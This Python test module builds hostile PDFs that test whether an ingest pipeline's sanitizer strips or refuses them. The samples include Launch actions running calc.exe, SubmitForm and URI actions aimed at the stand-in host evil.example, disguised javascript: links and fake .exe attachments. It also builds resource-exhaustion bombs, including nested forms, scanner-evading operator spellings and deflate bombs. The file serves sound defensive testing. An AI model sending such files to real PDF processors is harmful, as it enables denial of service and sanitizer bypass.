"""Hostile PDFs built in the test, object by object: active content of every kind, and bombs."""

import re

import pymupdf
import pypdf

TEXT = "Nội dung cuộc họp"
EVIL = "http://evil.example/x"


def plain_pdf(pages: int = 1, text: str = TEXT) -> pymupdf.Document:
    doc = pymupdf.open()
    for _ in range(pages):
        doc.new_page().insert_text((72, 100), text, fontsize=12)
    return doc


def _link(doc: pymupdf.Document, action: str) -> None:
    """A link annotation on page 1 whose /A is `action` (inline dict or `N 0 R`)."""
    _annot(doc, _object(doc, f"<</Type/Annot/Subtype/Link/Rect[72 80 200 100]/A {action}>>"))


def _annot(doc: pymupdf.Document, xref: int) -> None:
    kind, value = doc.xref_get_key(doc[0].xref, "Annots")
    refs = value.strip("[]") if kind == "array" else ""
    doc.xref_set_key(doc[0].xref, "Annots", f"[{refs} {xref} 0 R]")


def _draw(doc: pymupdf.Document, name: str, xobject: int, content: bytes) -> None:
    """Page 1 gets XObject `name` in its resources and one more content stream that uses it."""
    page = doc[0]
    kind, value = doc.xref_get_key(page.xref, "Resources")
    holder = int(value.split()[0]) if kind == "xref" else page.xref
    doc.xref_set_key(
        holder, "XObject" if kind == "xref" else "Resources/XObject", f"<</{name} {xobject} 0 R>>"
    )
    extra = _object(doc, "<<>>")
    doc.update_stream(extra, content)
    contents = doc.xref_get_key(page.xref, "Contents")[1].strip("[]")
    doc.xref_set_key(page.xref, "Contents", f"[{contents} {extra} 0 R]")


def _object(doc: pymupdf.Document, text: str) -> int:
    xref = doc.get_new_xref()
    doc.update_object(xref, text)
    return xref


def _launch(doc):
    _link(doc, "<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>")


def _launch_indirect(doc):
    _link(doc, f"{_object(doc, '<</S/Launch/F(calc.exe)>>')} 0 R")


def _submit_form(doc):
    _link(doc, f"<</S/SubmitForm/F<</FS/URL/F({EVIL})>>/Flags 4>>")


def _import_data(doc):
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/ImportData/F(du-lieu.fdf)>>")


def _goto_remote(doc):
    _link(doc, "<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>")


def _goto_embedded(doc):
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/GoToE/D[0/Fit]/T<</R/C/N(tep)>>>>")


def _uri_on_open(doc):
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"<</S/URI/URI({EVIL})>>")


def _uri_on_page_open(doc):
    doc.xref_set_key(doc[0].xref, "AA", f"<</O<</S/URI/URI({EVIL})>>>>")


def _chained_on_open(doc):
    chained = _object(doc, "<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>")
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"<</S/GoTo/D[0/Fit]/Next {chained} 0 R>>")


def _embedded_file(doc):
    doc.embfile_add("phan-mem.exe", b"MZ\x90\x00 not really a program", filename="phan-mem.exe")


def _file_attachment(doc):
    doc[0].add_file_annot((72, 200), b"MZ\x90\x00 payload", "dinh-kem.exe")


def _rich_media(doc):
    asset = doc.get_new_xref()
    doc.update_object(asset, "<</Type/EmbeddedFile>>")
    doc.update_stream(asset, b"FWS flash payload")
    media = _object(
        doc,
        "<</Type/Annot/Subtype/RichMedia/Rect[72 300 300 500]"
        f"/RichMediaContent<</Assets<</Names[(a.swf)<</Type/Filespec/F(a.swf)/EF<</F {asset} 0 R>>>>]>>>>"
        "/RichMediaSettings<</Activation<</Condition/PO>>>>>>",
    )
    _annot(doc, media)


def _xfa(doc):
    xfa = doc.get_new_xref()
    doc.update_object(xfa, "<<>>")
    doc.update_stream(xfa, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    doc.xref_set_key(doc.pdf_catalog(), "AcroForm", f"<</Fields[]/XFA {xfa} 0 R>>")


def _javascript(doc):
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/JavaScript/JS(app.alert(1))>>")


def _javascript_uri(doc):
    _link(doc, "<</S/URI/URI(javascript:app.alert\\(1\\))>>")


def _javascript_uri_disguised(doc):
    """Mixed case, a tab inside the scheme and spaces before it: browsers still run it."""
    action = _object(doc, "<</S/URI/URI(  JaVa\\tScript:alert\\(1\\))>>")
    _link(doc, f"{action} 0 R")


def _file_uri(doc):
    _link(doc, "<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>")


# name -> (how to build it, the element ingest reports)
REFUSED = {
    "javascript": (_javascript, "JavaScript"),
    "launch": (_launch, "Launch"),
    "launch-indirect": (_launch_indirect, "Launch"),
}
STRIPPED = {
    "submit-form": (_submit_form, "SubmitForm"),
    "import-data": (_import_data, "ImportData"),
    "goto-remote": (_goto_remote, "GoToR"),
    "goto-embedded": (_goto_embedded, "GoToE"),
    "uri-on-open": (_uri_on_open, "OpenAction"),
    "uri-on-page-open": (_uri_on_page_open, "OpenAction"),
    "chained-on-open": (_chained_on_open, "SubmitForm"),
    "embedded-file": (_embedded_file, "EmbeddedFile"),
    "file-attachment": (_file_attachment, "EmbeddedFile"),
    "rich-media": (_rich_media, "RichMedia"),
    "xfa": (_xfa, "XFA"),
    "javascript-uri": (_javascript_uri, "UnsafeLink"),
    "javascript-uri-disguised": (_javascript_uri_disguised, "UnsafeLink"),
    "file-uri": (_file_uri, "UnsafeLink"),
}


def hostile(name: str) -> bytes:
    build, _ = {**REFUSED, **STRIPPED}[name]
    doc = plain_pdf()
    build(doc)
    return doc.tobytes()


def everything_strippable() -> bytes:
    """One file carrying every kind of active content that ingest strips, and a plain web link."""
    doc = plain_pdf(pages=2)
    for name, (build, _) in STRIPPED.items():
        if name not in ("uri-on-open", "import-data", "goto-embedded"):  # one /OpenAction: the chain
            build(doc)
    _link(doc, f"<</S/GoToR/F(x.pdf)/D[0/Fit]/Next<</S/SubmitForm/F({EVIL})>>>>")
    return doc.tobytes()


def with_web_link(uri: str = EVIL) -> bytes:
    """A plain hyperlink the reader follows only when tapped: not active content."""
    doc = plain_pdf()
    doc[0].insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, 80, 200, 100), "uri": uri})
    return doc.tobytes()


def with_bookmark(title: str) -> bytes:
    """A bookmark (outline entry) whose title is `title`: text, whatever it says."""
    doc = plain_pdf(pages=2)
    doc.set_toc([[1, title, 1], [1, "Phụ lục", 2]])
    return doc.tobytes()


# What a reader could act on, looked for in every object of a finished file.
_ACTIVE = re.compile(
    r"/(?:JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|GoToE|EmbeddedFiles?|EF|RichMedia\w*"
    r"|FileAttachment|XFA|AA|URI|Movie|Sound|Screen|Rendition)(?![A-Za-z0-9#])"
)


def active_names_pymupdf(data: bytes) -> set[str]:
    """Active names in any object's dictionary, and whether the catalog still has /OpenAction."""
    found = set()
    with pymupdf.open(stream=data, filetype="pdf") as doc:
        for xref in range(1, doc.xref_length()):
            found |= set(_ACTIVE.findall(doc.xref_object(xref, compressed=True)))
            if doc.xref_is_stream(xref) and b"payload" in (doc.xref_stream(xref) or b""):
                found.add("payload-bytes")
        if doc.xref_get_key(doc.pdf_catalog(), "OpenAction")[0] == "dict":
            found.add("/OpenAction")
    return found


def active_names_pypdf(data: bytes) -> set[str]:
    """The same question asked of a second, independent parser."""
    import io

    reader = pypdf.PdfReader(io.BytesIO(data))
    found = set()
    root = reader.trailer["/Root"]
    for key in ("/OpenAction", "/AA"):
        if key in root:
            found.add(key)
    if "/Names" in root and "/EmbeddedFiles" in root["/Names"]:
        found.add("/EmbeddedFiles")
    if "/AcroForm" in root and "/XFA" in root["/AcroForm"]:
        found.add("/XFA")
    if reader.attachments:
        found.add("attachments")
    for page in reader.pages:
        if "/AA" in page:
            found.add("/AA")
        for annot in page.get("/Annots") or []:
            annot = annot.get_object()
            subtype = annot.get("/Subtype")
            if subtype in ("/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound"):
                found.add(subtype)
            action = annot.get("/A")
            while action is not None and isinstance(action.get_object(), dict):
                action = action.get_object()
                if action.get("/S") not in ("/URI", "/GoTo", None):
                    found.add(str(action.get("/S")))
                action = action.get("/Next")
    return found


# Bombs


# The same `Do` of the form named X1, spelled the ways PDF syntax allows (what a byte pattern misses).
SPELLINGS = {
    "plain": b"/X1 Do ",
    "escaped-name": b"/X#31 Do ",
    "comment-before-do": b"/X1%drawn below\nDo ",
    "nul-before-do": b"/X1\x00Do ",
    "no-space": b"/X1\nDo\n",
}


def form_bomb(depth: int = 9, fan_out: int = 10, call: bytes = b"/X1 Do ") -> bytes:
    """Form XObjects nested `depth` deep, each drawing the one below `fan_out` times: a few KB
    that ask for fan_out ** depth drawings of one small square. `call` is how each `Do` is written."""
    doc = plain_pdf()
    below = _nested_forms(doc, depth - 1, fan_out, call)
    _draw(doc, "X1", below, b"q " + call * fan_out + b" Q")
    return doc.tobytes(garbage=1, deflate=True)


def inline_image_hiding_bomb(depth: int = 9, fan_out: int = 10, image_filter: str = "") -> bytes:
    """The form bomb's `Do`s placed after an inline image whose data holds a fake `EI` and an
    open parenthesis: a reader that ends the image at the first `EI` then reads the `Do`s as
    one string; MuPDF measures the data (20 × 1 RGB pixels) and runs them."""
    doc = plain_pdf()
    below = _nested_forms(doc, depth - 1, fan_out)
    data = b"\nEI (" * 12  # 60 bytes: 20 pixels of 3 bytes
    image = b"q BI /W 20 /H 1 /CS /RGB /BPC 8" + image_filter.encode() + b" ID " + data + b" EI Q\n"
    _draw(doc, "X1", below, image + b"q " + b"/X1 Do " * fan_out + b" Q (closing)")
    return doc.tobytes(garbage=1, deflate=True)


def _nested_forms(doc: pymupdf.Document, depth: int, fan_out: int, call: bytes = b"/X1 Do ") -> int:
    below = _form(doc, b"0 0 1 rg 0 0 2 2 re f", None)
    for _ in range(depth):
        below = _form(doc, call * fan_out, below)
    return below


def type3_glyph_bomb(depth: int = 8, fan_out: int = 10, glyphs: int = 10) -> bytes:
    """A Type 3 font whose one glyph draws the nested forms; the page shows it `glyphs` times."""
    doc = plain_pdf()
    forms = _nested_forms(doc, depth, fan_out)
    glyph = _object(doc, "<<>>")
    doc.update_stream(glyph, b"1000 0 0 0 1000 1000 d1 /X1 Do")
    font = _object(
        doc,
        "<</Type/Font/Subtype/Type3/FontBBox[0 0 1000 1000]/FontMatrix[0.001 0 0 0.001 0 0]"
        f"/CharProcs<</a {glyph} 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97"
        f"/Widths[1000]/Resources<</XObject<</X1 {forms} 0 R>>>>>>",
    )
    _resource(doc, "Font", "T3", font)
    _append_content(doc, b"BT /T3 12 Tf 72 400 Td (" + b"a" * glyphs + b") Tj ET")
    return doc.tobytes(garbage=1, deflate=True)


def pattern_cell_bomb(depth: int = 8, fan_out: int = 10) -> bytes:
    """A tiling pattern whose cell draws the nested forms, filling a small square once."""
    doc = plain_pdf()
    forms = _nested_forms(doc, depth, fan_out)
    pattern = _tiling_pattern(doc, 100, b"/X1 Do", f"/Resources<</XObject<</X1 {forms} 0 R>>>>")
    _resource(doc, "Pattern", "P1", pattern)
    _append_content(doc, b"/Pattern cs /P1 scn 0 0 100 100 re f")
    return doc.tobytes(garbage=1, deflate=True)


def fine_pattern(step: float = 0.02) -> bytes:
    """An 852-byte page filled with a tiling pattern whose cell is `step` points: at 0.02 pt, a
    billion cells, which every render of the page would draw."""
    doc = pymupdf.open()
    page = doc.new_page()
    cell = f"0 0 1 rg 0 0 {step / 2} {step / 2} re f".encode()
    pattern = _tiling_pattern(doc, step, cell, "/Resources<<>>")
    doc.xref_set_key(page.xref, "Resources", f"<</Pattern<</P {pattern} 0 R>>>>")
    content = _object(doc, "<<>>")
    doc.update_stream(content, b"/Pattern cs /P scn 0 0 595 842 re f")
    doc.xref_set_key(page.xref, "Contents", f"{content} 0 R")
    return doc.tobytes(garbage=1, deflate=True)


def _tiling_pattern(doc: pymupdf.Document, step: float, cell: bytes, resources: str) -> int:
    pattern = _object(
        doc,
        f"<</Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 {step} {step}]"
        f"/XStep {step}/YStep {step}{resources}>>",
    )
    doc.update_stream(pattern, cell)
    return pattern


def _resource(doc: pymupdf.Document, kind: str, name: str, xref: int) -> None:
    """Page 1's resources get `name` → `xref` in their `kind` dictionary (Font, Pattern, XObject)."""
    page = doc[0]
    kind_of, value = doc.xref_get_key(page.xref, "Resources")
    holder = int(value.split()[0]) if kind_of == "xref" else page.xref
    path = kind if kind_of == "xref" else f"Resources/{kind}"
    have, names = doc.xref_get_key(holder, path)
    if have == "xref":
        doc.xref_set_key(int(names.split()[0]), name, f"{xref} 0 R")
    elif have == "dict":
        doc.xref_set_key(holder, path, names[:-2] + f"/{name} {xref} 0 R>>")
    else:
        doc.xref_set_key(holder, path, f"<</{name} {xref} 0 R>>")


def _append_content(doc: pymupdf.Document, content: bytes) -> None:
    page = doc[0]
    extra = _object(doc, "<<>>")
    doc.update_stream(extra, content)
    contents = doc.xref_get_key(page.xref, "Contents")[1].strip("[]")
    doc.xref_set_key(page.xref, "Contents", f"[{contents} {extra} 0 R]")


def appearance_bomb(depth: int = 9, fan_out: int = 10) -> bytes:
    """The same nesting, hidden in the appearance of an annotation instead of the page's content."""
    doc = plain_pdf()
    below = _form(doc, b"0 0 1 rg 0 0 2 2 re f", None)
    for _ in range(depth):
        below = _form(doc, b"/X1 Do " * fan_out, below)
    _annot(doc, _object(doc, f"<</Type/Annot/Subtype/Square/Rect[72 300 272 500]/AP<</N {below} 0 R>>>>"))
    return doc.tobytes(garbage=1, deflate=True)


def _form(doc: pymupdf.Document, content: bytes, child: int | None) -> int:
    xref = doc.get_new_xref()
    resources = f"/Resources<</XObject<</X1 {child} 0 R>>>>" if child else ""
    doc.update_object(xref, f"<</Type/XObject/Subtype/Form/BBox[0 0 200 200]{resources}>>")
    doc.update_stream(xref, content)
    return xref


def deflate_bomb(megabytes: int = 200) -> bytes:
    """A page whose content stream inflates from a few hundred KB to `megabytes` of spaces."""
    doc = plain_pdf()
    page = doc[0]
    xref = _object(doc, "<<>>")
    doc.update_stream(xref, b" " * (megabytes * 2**20), compress=True)
    contents = doc.xref_get_key(page.xref, "Contents")[1].strip("[]")
    doc.xref_set_key(page.xref, "Contents", f"[{contents} {xref} 0 R]")
    return doc.tobytes()


def self_drawing_form() -> bytes:
    """A form that draws itself: a cycle."""
    doc = plain_pdf()
    form = doc.get_new_xref()
    doc.update_object(
        form, f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {form} 0 R>>>>>>"
    )
    doc.update_stream(form, b"/X Do")
    _draw(doc, "X", form, b"/X Do")
    return doc.tobytes()


def huge_image() -> bytes:
    """An image that claims 40,000 × 40,000 pixels (1.6 billion), drawn on page 1."""
    doc = plain_pdf()
    image = _object(doc, "<<>>")
    doc.update_object(
        image,
        "<</Type/XObject/Subtype/Image/Width 40000/Height 40000/ColorSpace/DeviceGray/BitsPerComponent 8>>",
    )
    doc.update_stream(image, b"\x00" * 1000, compress=True)
    _draw(doc, "Im", image, b"q 100 0 0 100 0 0 cm /Im Do Q")
    return doc.tobytes()
